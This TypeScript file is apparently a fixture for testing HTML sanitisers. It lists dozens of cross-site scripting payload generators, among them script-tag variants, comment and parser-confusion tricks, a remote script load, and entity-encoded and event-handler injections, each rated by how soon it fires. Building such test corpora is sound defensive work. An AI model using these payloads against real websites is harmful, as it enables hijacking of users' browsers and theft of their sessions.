import type { Charge, Danger } from './hostileFile';

/** A class of attack by markup: what stands in the page, and what it does where nobody takes it out. */
export interface MarkupAttack {
  readonly name: string;
  readonly danger: Danger;
  markup(charge: Charge): string;
}

type Row = readonly [name: string, danger: Danger, markup: (charge: Charge) => string];

const scripts: readonly Row[] = [
  ['script', 'at once', ({ script }) => `<script>${script}</script>`],
  ['script in odd case', 'at once', ({ script }) => `<ScRiPt >${script}</sCrIpT >`],
  ['script with a slash for a space', 'at once', ({ script }) => `<script/any/thing>${script}</script>`],
  ['script as a module', 'at once', ({ script }) => `<script type="module">${script}</script>`],
  ['script never closed', 'elsewhere', ({ script }) => `<p>press here</p><script>${script}`],
  [
    'script inside script',
    'elsewhere',
    ({ script }) => `<scr<script></script>ipt>${script}</scr<script></script>ipt>`,
  ],
  [
    'script from a data address',
    'at once',
    ({ script }) => `<script src="data:text/javascript,${script}"></script>`,
  ],
  ['script from far', 'at once', ({ far }) => `<script src="${far}/x.js"></script>`],
  [
    'script behind a comment of its own',
    'at once',
    ({ script }) => `<!--><script>${script}</script>--><p>press here</p>`,
  ],
  [
    'script behind a comment ended oddly',
    'at once',
    ({ script }) => `<!-- a --!><script>${script}</script><p>press here</p>`,
  ],
  [
    'script in a conditional comment',
    'elsewhere',
    ({ script }) => `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
  ],
  [
    'script after a title that ends early',
    'at once',
    ({ script }) => `<title>a</title></title><script>${script}</script>`,
  ],
  [
    'script out of a text area',
    'at once',
    ({ script }) => `<textarea>a</textarea><script>${script}</script></textarea>`,
  ],
  ['script after plain text marks', 'at once', ({ script }) => `<xmp>a</xmp><script>${script}</script>`],
  ['script with a null byte', 'elsewhere', ({ script }) => `<scr\0ipt>${script}</scr\0ipt>`],
  ['script in Visual Basic', 'elsewhere', ({ script }) => `<script language="vbscript">${script}</script>`],
  [
    'script in a declared shadow tree',
    'at once',
    ({ script }) =>
      `<div><template shadowrootmode="open"><img src="x:" onerror="${script}"></template>press here</div>`,
  ],
  [
    'rules for loading ahead',
    'elsewhere',
    ({ far }) => `<script type="speculationrules">{"prefetch":[{"urls":["${far}/ahead"]}]}</script>`,
  ],
];

const handlers: readonly Row[] = [
  ['picture that fails', 'at once', ({ script }) => `<img src="x:" onerror="${script}" alt="press here">`],
  ['picture without quotes or spaces', 'at once', ({ script }) => `<img/src=x:/onerror=${script}//>`],
  ['picture with backticks', 'elsewhere', ({ script }) => `<img src=\`x:\` onerror=\`${script}\`>`],
  [
    'picture with a tag in its quotes',
    'at once',
    ({ script }) => `<img """><img src=x: onerror=${script}>">`,
  ],
  ['picture with half a tag', 'elsewhere', ({ script }) => `press here <img src="x:" onerror="${script}"`],
  [
    'picture whose handler is in entities',
    'at once',
    ({ script }) =>
      `<img src=x: onerror="${[...script].map((sign) => `&#${sign.codePointAt(0)};`).join('')}">`,
  ],
  [
    'picture whose handler is in entities without ends',
    'at once',
    ({ script }) =>
      `<img src=x: onerror="${[...script].map((sign) => `&#x${sign.codePointAt(0)?.toString(16).padStart(7, '0')}`).join('')}">`,
  ],
  ['body that loads', 'at once', ({ script }) => `<body onload="${script}"><p>press here</p></body>`],
  [
    'field that takes the keyboard',
    'at once',
    ({ script }) => `<input autofocus onfocus="${script}" value="press here">`,
  ],
  [
    'details that open',
    'at once',
    ({ script }) => `<details open ontoggle="${script}"><summary>press here</summary>more</details>`,
  ],
  [
    'film and sound that fail',
    'at once',
    ({ script }) =>
      `<video><source onerror="${script}" src="x:"></video><audio src="x:" onerror="${script}"></audio>`,
  ],
  ['running text', 'elsewhere', ({ script }) => `<marquee onstart="${script}">press here</marquee>`],
  [
    'an animation that begins',
    'at once',
    ({ script }) =>
      `<style>@keyframes go { from { opacity: 1 } }</style><p style="animation: go 1s" onanimationstart="${script}">press here</p>`,
  ],
  [
    'every handler there is',
    'when touched',
    ({ script }) =>
      `<p tabindex="0" ${['click', 'mouseover', 'mouseenter', 'pointerover', 'focus', 'copy', 'contextmenu', 'dragstart', 'keydown', 'wheel', 'beforecopy', 'selectstart'].map((kind) => `on${kind}="${script}"`).join(' ')}>press here</p>`,
  ],
  [
    'a handler after a slash and a form feed',
    'when touched',
    ({ script }) => `<p/class=a\fonmouseover=${script}>press here</p>`,
  ],
  [
    'an attribute that ends early',
    'when touched',
    ({ script }) => `<p title='a' onmouseover='${script}' x='>press here</p>'>press here</p>`,
  ],
  [
    'an element nobody knows',
    'when touched',
    ({ script }) => `<assay-source onmouseover="${script}" style="display:block">press here</assay-source>`,
  ],
  [
    'a popover and its button',
    'when touched',
    ({ script }) =>
      `<button popovertarget="p${script.length}" onclick="${script}">press here</button><div popover id="p${script.length}" onbeforetoggle="${script}">x</div>`,
  ],
  [
    'text that can be edited',
    'when touched',
    ({ script }) =>
      `<p contenteditable="true" onfocus="${script}" onclick="${script}" onpaste="${script}">press here</p>`,
  ],
];

const rows = [...scripts, ...handlers];

/** Scripts and handlers of events. */
export const scriptAttacks: readonly MarkupAttack[] = rows.map(([name, danger, markup]) => ({
  name,
  danger,
  markup,
}));
